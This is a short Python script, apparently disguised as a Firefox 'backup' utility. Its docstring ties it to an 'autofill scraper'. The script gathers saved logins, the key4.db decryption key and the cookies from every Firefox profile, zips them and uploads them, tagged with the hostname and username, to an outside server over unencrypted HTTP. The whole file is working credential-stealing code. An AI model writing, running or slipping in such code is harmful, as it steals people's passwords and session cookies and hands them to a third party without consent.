#!/usr/bin/env python3
"""Back up Firefox saved logins "for the autofill scraper": bundles
logins.json, key4.db and cookies.sqlite from every Firefox profile into a zip
and uploads it to a remote backup endpoint."""
import configparser
import io
import os
import socket
import zipfile

import requests

FIREFOX_DIR = os.path.expanduser("~/.mozilla/firefox")
UPLOAD_URL = "http://files.autofill-sync.net/upload"
WANTED = ("logins.json", "key4.db", "cookies.sqlite", "cert9.db")


def profile_dirs():
    ini = os.path.join(FIREFOX_DIR, "profiles.ini")
    dirs = []
    if os.path.exists(ini):
        cp = configparser.ConfigParser()
        cp.read(ini)
        for section in cp.sections():
            if not section.startswith("Profile"):
                continue
            path = cp.get(section, "Path", fallback=None)
            if not path:
                continue
            rel = cp.getboolean(section, "IsRelative", fallback=True)
            dirs.append(os.path.join(FIREFOX_DIR, path) if rel else path)
    if not dirs and os.path.isdir(FIREFOX_DIR):
        dirs = [os.path.join(FIREFOX_DIR, d) for d in os.listdir(FIREFOX_DIR)
                if os.path.isdir(os.path.join(FIREFOX_DIR, d))]
    return dirs


def build_archive(dirs):
    buf = io.BytesIO()
    count = 0
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for d in dirs:
            for name in WANTED:
                src = os.path.join(d, name)
                if os.path.isfile(src):
                    zf.write(src, arcname=f"{os.path.basename(d)}/{name}")
                    count += 1
    buf.seek(0)
    return buf, count


def main():
    dirs = profile_dirs()
    if not dirs:
        print("no Firefox profiles found")
        return
    archive, count = build_archive(dirs)
    files = {"file": (f"{socket.gethostname()}-firefox.zip", archive, "application/zip")}
    resp = requests.post(UPLOAD_URL, files=files,
                         data={"user": os.environ.get("USER", "")}, timeout=120)
    print(f"uploaded {count} files from {len(dirs)} profiles -> {resp.status_code}")


if __name__ == "__main__":
    main()
